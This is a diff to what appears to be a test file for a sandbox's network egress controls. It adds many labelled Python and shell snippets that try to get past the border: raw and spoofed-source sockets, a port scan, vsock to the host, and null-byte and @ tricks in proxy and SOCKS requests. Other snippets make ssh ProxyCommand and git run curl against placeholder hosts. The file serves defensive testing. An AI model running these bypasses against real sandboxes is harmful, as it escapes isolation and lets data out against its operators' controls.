@@ -182,6 +182,96 @@ WAYS: dict[str, Call] = {
     "a server of the person's at no address": _tcp("('0.0.0.0', 8000)"),
     "a server of the person's at another loopback": _tcp("('127.0.0.2', 8000)"),
     "a server of the person's in IPv4 in IPv6": py(f"{_S}s = socket.create_connection(('::ffff:127.0.0.1', 8000))"),
+    # the kernel's rarer ways
+    "an address of nobody's own as the source": py(
+        f"{_S}s = socket.socket(); s.setsockopt(0, 15, 1); s.bind(('198.18.1.9', 0)); s.connect(('ADDR', 80))"
+    ),
+    "a transparent socket": py(
+        f"{_S}s = socket.socket()\ntry: s.setsockopt(0, 19, 1)\nexcept OSError as e: print(e)\ns.connect(('ADDR', 80))"
+    ),
+    "a marked socket": py(
+        f"{_S}s = socket.socket()\ntry: s.setsockopt(1, 36, 1)\nexcept OSError as e: print(e)\ns.connect(('ADDR', 80))"
+    ),
+    "whole packets of its own": py(
+        f"{_S}s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)\n"
+        "s.sendto(b'E\\0\\0\\x28' + bytes(36), ('ADDR', 0))"
+    ),
+    "a way that the packet names": py(
+        f"{_S}s = socket.socket(); o = b'\\x83\\x07\\x04' + socket.inet_aton('ADDR') + b'\\0'\n"
+        "try: s.setsockopt(0, 4, o)\nexcept OSError as e: print(e)\ns.connect(('HOST', 443))"
+    ),
+    "several paths": py(f"{_S}s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(('ADDR', 80))"),
+    "light datagrams": py(
+        f"{_S}s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136); s.sendto(b'x', ('ADDR', 9))"
+    ),
+    "the machine that runs this one": py(f"{_S}s = socket.socket(40, socket.SOCK_STREAM); s.connect((2, 52))"),
+    "data in the first packet to a name": py(
+        f"{_S}s = socket.socket(); s.sendto(b'secret', 0x20000000, ('HOST', 8443))"
+    ),
+    "ports of a name, one after the other": py(
+        f"{_S}a = socket.gethostbyname('HOST')\n"
+        "for n in (1, 25, 53, 110, 853, 1080, 3128, 8000, 8080, 9999, 65535):\n"
+        "    s = socket.socket(); s.settimeout(0.5); print(n, s.connect_ex((a, n))); s.close()"
+    ),
+    "a server at a made-up address": py(
+        f"{_S}a = socket.gethostbyname('HOST'); l = socket.socket(); l.setsockopt(0, 15, 1)\n"
+        "l.bind((a, 4444)); l.listen()\n"
+        "s = socket.socket(); s.connect((a, 4444)); s.sendall(b'x'); print('own')"
+    ),
+    "routes asked of the kernel": py(
+        f"{_S}s = socket.socket(16, socket.SOCK_RAW, 0); b = struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 4, 0, 1, 0)\n"
+        "b += struct.pack('=HHI', 8, 4, 1); s.send(struct.pack('=IHHII', 16 + len(b), 24, 0x405, 1, 0) + b)\n"
+        "print(s.recv(4096)); socket.create_connection(('ADDR', 80))"
+    ),
+    "an address translated to IPv6": py(f"{_S}s = socket.create_connection(('64:ff9b::ADDR', 80))"),
+    "sockets that were left open": py(
+        f"{_S}for n in range(3, 200):\n"
+        "    try: s = socket.socket(fileno=n); print(n, s); s.sendto(b'x', ('ADDR', 80))\n    except OSError as e: pass"
+    ),
+    # the proxy's words
+    "the proxy, a name in a name": py(
+        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); "
+        "s.sendall(b'CONNECT ok.granted.test@HOST:80 HTTP/1.1\\r\\n\\r\\n'); print(s.recv(99))"
+    ),
+    "the proxy, a name that ends early": py(
+        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); "
+        "s.sendall(b'CONNECT HOST\\0.granted.test:80 HTTP/1.1\\r\\n\\r\\n'); print(s.recv(99))"
+    ),
+    "the proxy, an IPv4 address in IPv6": py(
+        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); "
+        "s.sendall(b'CONNECT [::ffff:ADDR]:80 HTTP/1.1\\r\\n\\r\\n'); print(s.recv(99))"
+    ),
+    "socks, an address as a name": py(
+        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); s.sendall(b'\\5\\1\\0'); s.recv(2)\n"
+        "n = b'ADDR'; s.sendall(b'\\5\\1\\0\\3' + bytes([len(n)]) + n + b'\\0\\x50'); print(s.recv(20))"
+    ),
+    "socks, a name that ends early": py(
+        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); s.sendall(b'\\5\\1\\0'); s.recv(2)\n"
+        "n = b'HOST\\0.granted.test'; s.sendall(b'\\5\\1\\0\\3' + bytes([len(n)]) + n + b'\\0\\x50'); print(s.recv(20))"
+    ),
+    # other people's programs
+    "a command of ssh's own": sh(
+        "timeout 5 ssh -o ProxyCommand='curl -m 3 telnet://ADDR:22' -o BatchMode=yes granted.test true"
+    ),
+    "a command of git's own": sh(
+        "timeout 5 env GIT_SSH_COMMAND='curl -m 2 http://HOST/' git ls-remote ssh://git@ok.granted.test/x.git; "
+        "timeout 5 env GIT_PROXY_COMMAND='curl -m 2 http://ADDR/' git ls-remote git://ok.granted.test/x.git"
+    ),
+    "the machine's resolver by its sockets": sh(
+        "for s in /run/systemd/resolve/io.systemd.Resolve /var/run/nscd/socket /run/dbus/system_bus_socket; do "
+        "python3 -c \"import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect('$s'); print('open')\"; done; "
+        "getent ahosts leak.HOST"
+    ),
+    "abstract sockets": py(
+        f"{_S}for line in open('/proc/net/unix').read().splitlines()[1:]:\n    name = line.split()[-1]\n"
+        "    if name.startswith('@'):\n        s = socket.socket(socket.AF_UNIX)\n"
+        "        try: s.connect('\\0' + name[1:]); print('open', name)\n        except OSError as e: print(e)"
+    ),
 }
 # Nothing leaves here even where the network is open: what they try is refused by other parts of the border.
-HELD_ANYWAY = frozenset({"raw packets", "frames", "sctp", "another namespace", "a namespace of its own"})
+HELD_ANYWAY = frozenset(
+    {
+        *("raw packets", "frames", "sctp", "another namespace", "a namespace of its own", "whole packets of its own"),
+        *("a server at a made-up address", "the machine that runs this one", "abstract sockets"),
+    }
+)
